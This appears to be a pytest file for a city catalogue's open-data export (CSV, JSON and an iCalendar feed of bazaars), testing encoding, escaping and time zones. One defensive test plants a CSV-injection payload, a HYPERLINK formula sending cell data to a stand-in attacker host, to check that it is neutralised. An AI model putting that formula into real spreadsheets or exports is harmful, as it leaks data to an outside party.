"""Open data as the city office receives it: CSV a spreadsheet opens safely, JSON, and a
calendar feed that calendar software reads (parsed back with the `icalendar` package)."""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
from pathlib import Path

import icalendar
import pytest
import yaml
from conftest import FIXTURE, GOLDEN_DAY

from generator.content.index import build_index
from generator.photos.inspect import load_with_photos
from generator.web import opendata

WITA = datetime.timezone(datetime.timedelta(hours=8))


def fixture_files(content: Path = FIXTURE) -> dict[str, str]:
    return opendata.files(build_index(load_with_photos(content), GOLDEN_DAY))


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # Excel then reads UTF-8
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_vendor_and_product_csv_as_a_spreadsheet_reads_them() -> None:
    files = fixture_files()
    vendors = read_csv(files["data/usaha.csv"])
    assert [v["id_usaha"] for v in vendors] == ["amplang-uji", "kebun-uji", "kue-tanpa-rt"]
    amplang = vendors[0]
    assert amplang["nama_usaha"] == "Amplang Uji"
    assert (amplang["rt"], amplang["rw"], amplang["kelurahan"]) == ("3", "1", "Contoh Ilir")
    assert amplang["no_wa"] == "6281200000001"  # digits only: no "+" a spreadsheet would eat
    assert (amplang["no_nib"], amplang["no_pirt"]) == ("0000000000001", "000000000000001")
    assert amplang["bisa_diantar"] == "ya" and amplang["pembayaran"] == "tunai qris transfer"
    assert amplang["halaman"] == "https://katalog-uji.example.org/usaha/amplang-uji/"
    assert vendors[2]["rt"] == ""  # not given stays empty

    products = read_csv(files["data/produk.csv"])
    assert len(products) == 5
    mawar = next(p for p in products if p["nama_produk"] == "Mawar merah")
    assert (mawar["id_usaha"], mawar["kode_kategori"], mawar["harga"]) == (
        "kebun-uji",
        "bunga",  # the product's own category, not its grower's
        "15000",
    )
    assert mawar["bulan_musim"] == "1 12"
    assert {p["tersedia"] for p in products} == {"ya", "tidak"}


def test_json_holds_every_vendor_with_products_and_the_licence() -> None:
    data = json.loads(fixture_files()["data/usaha.json"])
    assert data["lisensi"] == "CC BY 4.0" and data["tanggal_data"] == "2025-07-01"
    assert data["jumlah_usaha"] == len(data["usaha"]) == 3
    kebun = next(v for v in data["usaha"] if v["id_usaha"] == "kebun-uji")
    assert kebun["rt"] == 12 and kebun["program"] == "Kampung Bungas"
    assert [p["harga"] for p in kebun["produk"]] == [8000, 15000]
    assert kebun["produk"][0]["bulan_musim"] == [6, 7, 8]
    kue = next(v for v in data["usaha"] if v["id_usaha"] == "kue-tanpa-rt")
    assert kue["rt"] is None  # JSON says "not given" as null, not ""


# What spreadsheets run as a formula when a cell starts with it (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_formula_cells_are_neutralised_but_stay_readable(content: Path) -> None:
    path = content / "vendors" / "amplang-uji.yml"
    vendor = yaml.safe_load(path.read_text("utf-8"))
    vendor["name"] = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    vendor["owner"] = "+1+2"
    vendor["address"] = "@SUM(1+1)"
    vendor["products"][0]["name"] = "-2+3"
    vendor["products"][0]["unit"] = "=1+1 bungkus"
    vendor["products"][0]["description"] = "\t=Tab di depan"
    path.write_text(yaml.safe_dump(vendor, allow_unicode=True), "utf-8")
    files = fixture_files(content)
    vendors, products = read_csv(files["data/usaha.csv"]), read_csv(files["data/produk.csv"])
    row = next(r for r in vendors if r["id_usaha"] == "amplang-uji")
    assert row["nama_usaha"] == '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert (row["nama_pemilik"], row["alamat"]) == ("'+1+2", "'@SUM(1+1)")
    product = products[0]
    assert (product["nama_produk"], product["satuan"]) == ("'-2+3", "'=1+1 bungkus")
    assert product["nama_usaha"] == row["nama_usaha"]
    assert product["keterangan"] == "'=Tab di depan"  # the tab is trimmed, the "=" is not
    # Only the first character matters; ordinary text and numbers are left alone.
    assert (product["harga"], row["kelurahan"]) == ("25000", "Contoh Ilir")
    starts = [c for r in vendors + products for c in r.values() if c[:1] in FORMULA_STARTS]
    # A number south of the equator is a number to a spreadsheet, not a formula.
    assert starts == [row["lintang"]] and float(row["lintang"]) == -1.2465
    # JSON is not opened by spreadsheets: the data stays exactly as written.
    data = json.loads(files["data/usaha.json"])
    assert vendor["name"] in [v["nama_usaha"] for v in data["usaha"]]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_every_formula_start_becomes_text(start: str) -> None:
    """Tabs and carriage returns never come from content (values are trimmed), but a cell
    is safe whatever reaches it."""
    assert opendata.cell(start + "1+1") == "'" + start + "1+1"
    assert opendata.cell(["a", "b"]) == "a b" and opendata.cell([start + "a"]) == "'" + start + "a"
    assert opendata.cell("1" + start + "1") == "1" + start + "1"


def parse_calendar(text: str) -> icalendar.Calendar:
    raw = text.encode("utf-8")
    lines = raw.split(b"\r\n")
    assert lines[-1] == b"" and b"\n" not in b"".join(lines)  # every line ends CRLF
    assert max(len(line) for line in lines) <= 75  # folded (RFC 5545 3.1)
    return icalendar.Calendar.from_ical(text)


def test_calendar_feed_has_one_event_per_bazaar_in_balikpapan_time() -> None:
    cal = parse_calendar(fixture_files()["acara.ics"])
    assert cal["VERSION"] == "2.0" and cal["PRODID"]
    events = {str(e["SUMMARY"]): e for e in cal.walk("VEVENT")}
    assert sorted(events) == ["Bazar Depan", "Bazar Uji"]
    uji = events["Bazar Uji"]
    start, end = uji.decoded("DTSTART"), uji.decoded("DTEND")
    assert start == datetime.datetime(2025, 6, 14, 8, 0, tzinfo=WITA)
    assert start.utcoffset() == datetime.timedelta(hours=8)
    assert end == datetime.datetime(2025, 6, 14, 16, 0, tzinfo=WITA)
    assert str(uji["LOCATION"]) == "Halaman Kelurahan"
    assert "Panitia Uji" in str(uji["DESCRIPTION"])
    assert str(uji["URL"]) == "https://katalog-uji.example.org/acara/bazar-uji/"
    # No time given: an all-day event on that date.
    depan = events["Bazar Depan"]
    assert depan.decoded("DTSTART") == datetime.date(2030, 1, 5)
    uids = [str(e["UID"]) for e in cal.walk("VEVENT")]
    assert len(set(uids)) == 2 and all("@katalog-uji.example.org" in u for u in uids)
    assert all(e.decoded("DTSTAMP").tzinfo is not None for e in cal.walk("VEVENT"))
    # The time zone named by TZID is defined in the feed itself.
    assert [str(tz["TZID"]) for tz in cal.walk("VTIMEZONE")] == ["Asia/Makassar"]


def test_calendar_text_survives_commas_semicolons_backslashes_and_long_lines(
    content: Path,
) -> None:
    name = "Bazar; Pasar, Murah \\ Meriah " + "Gunung Sari Ilir — bazar terbesar " * 4
    description = "Baris satu, dengan koma; titik koma.\n\nBaris dua: é ü 😀 " + "ä" * 80
    (content / "events" / "bazar-uji.yml").write_text(
        yaml.safe_dump(
            {
                "name": name.strip()[:200],
                "date": "2025-06-14",
                "location": "Lapangan, RT 3; Gg. \\ Baru",
                "description": description,
                "stalls": [{"stall": "A1", "vendor": "amplang-uji"}],
            },
            allow_unicode=True,
        ),
        "utf-8",
    )
    cal = parse_calendar(fixture_files(content)["acara.ics"])
    event = next(e for e in cal.walk("VEVENT") if "bazar-uji@" in str(e["UID"]))
    assert str(event["SUMMARY"]) == name.strip()[:200]
    assert str(event["LOCATION"]) == "Lapangan, RT 3; Gg. \\ Baru"
    assert str(event["DESCRIPTION"]).startswith(description)
    # Lenient readers accept a bare `,` or `;`; RFC 5545 3.3.11 does not: TEXT escapes
    # `\\`, `;`, `,` and newlines.
    text_values = [
        line.split(":", 1)[1]
        for line in fixture_files(content)["acara.ics"].replace("\r\n ", "").split("\r\n")
        if line.startswith(("SUMMARY:", "LOCATION:", "DESCRIPTION:"))
    ]
    assert len(text_values) == 6
    for value in text_values:
        assert re.fullmatch(r"(?:[^\\,;]|\\[\\,;n])*", value), value


def test_fold_never_splits_a_character() -> None:
    line = "DESCRIPTION:" + "é😀a" * 40
    folded = opendata.fold(line)
    for physical in folded.split("\r\n"):
        assert len(physical.encode("utf-8")) <= 75
    assert folded.replace("\r\n ", "") == line


def test_without_a_published_address_nothing_points_to_a_made_up_site(content: Path) -> None:
    catalogue = content / "catalogue.yml"
    catalogue.write_text(
        "\n".join(
            line
            for line in catalogue.read_text("utf-8").splitlines()
            if not line.startswith("site_url:")
        ),
        "utf-8",
    )
    files = fixture_files(content)
    cal = parse_calendar(files["acara.ics"])
    assert all("URL" not in e for e in cal.walk("VEVENT"))  # URL must be absolute
    assert {str(e["UID"]).split("@")[1] for e in cal.walk("VEVENT")} == {
        "katalog-contoh-ilir.invalid"  # still unique per catalogue, and never a real host
    }
    assert read_csv(files["data/usaha.csv"])[0]["halaman"] == "usaha/amplang-uji/"

    from generator.web import jsonld as structured

    index = build_index(load_with_photos(content), GOLDEN_DAY)
    data = json.loads(
        structured.vendor(
            index.content.catalogue,
            "amplang-uji",
            index.vendor("amplang-uji"),
            {c.id: c.name for c in index.content.catalogue.categories},
        )
    )
    assert "url" not in data and "image" not in data and "@id" not in data
    assert data["makesOffer"][0]["priceCurrency"] == "IDR"
